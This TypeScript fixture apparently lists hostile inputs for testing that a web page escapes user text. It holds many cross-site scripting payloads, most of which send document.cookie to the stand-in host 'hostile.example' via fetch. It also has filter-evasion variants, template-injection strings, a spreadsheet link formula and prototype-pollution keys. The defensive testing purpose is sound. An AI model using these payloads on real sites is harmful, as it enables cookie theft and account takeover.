/** Where a text that became markup would call; nothing may ever ask for it. */
export const hostile_host = 'hostile.example';

const call = `fetch('https://${hostile_host}/'+document.cookie)`;
const run = `window.hostile=1;alert(1);${call}`;

const openings = ['', '"', "'", '">', "'>", '</title>', '</textarea>', '</script>', '-->', '`', '}}', ']]>'];

/** Texts that become markup, script or an address where a page forgets to treat them as text (threat T25). */
export const hostile_texts: string[] = [
  ...openings.map((opening) => `${opening}<img src=x onerror="${run}">`),
  ...openings.slice(0, 6).map((opening) => `${opening}<script>${run}</script>`),
  `<svg onload="${run}">`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<details open ontoggle="${run}">`,
  `<body onload="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"></select>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<marquee onstart="${run}">`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="https://${hostile_host}/x"></object>`,
  `<embed src="https://${hostile_host}/x">`,
  `<link rel=stylesheet href="https://${hostile_host}/x.css">`,
  `<style>@import 'https://${hostile_host}/x.css';</style>`,
  `<div style="background:url(https://${hostile_host}/x)">`,
  `<img src="https://${hostile_host}/x.png">`,
  `<base href="https://${hostile_host}/">`,
  `<meta http-equiv=refresh content="0;url=https://${hostile_host}/">`,
  `<form action="https://${hostile_host}/"><button>Continue</button></form>`,
  `<a href="javascript:${run}">receipt</a>`,
  `[receipt](javascript:${run})`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor("${run}")()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&#x3C;img src=x onerror=${call}&#x3E;`,
  `%3Cimg src=x onerror=${call}%3E`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<img/src=x/onerror=${call}>`,
  `<a/onmouseover=${call}>x</a>`,
  `＜img src=x onerror=${call}＞`,
  `\u{202E}<img src=x onerror=${call}>`,
  `<img src=x\nonerror="${run}">`,
  `=HYPERLINK("https://${hostile_host}","receipt")`,
  `__proto__`,
  `constructor`,
  `[object Object]`,
  `"}],"remark":"x`,
];
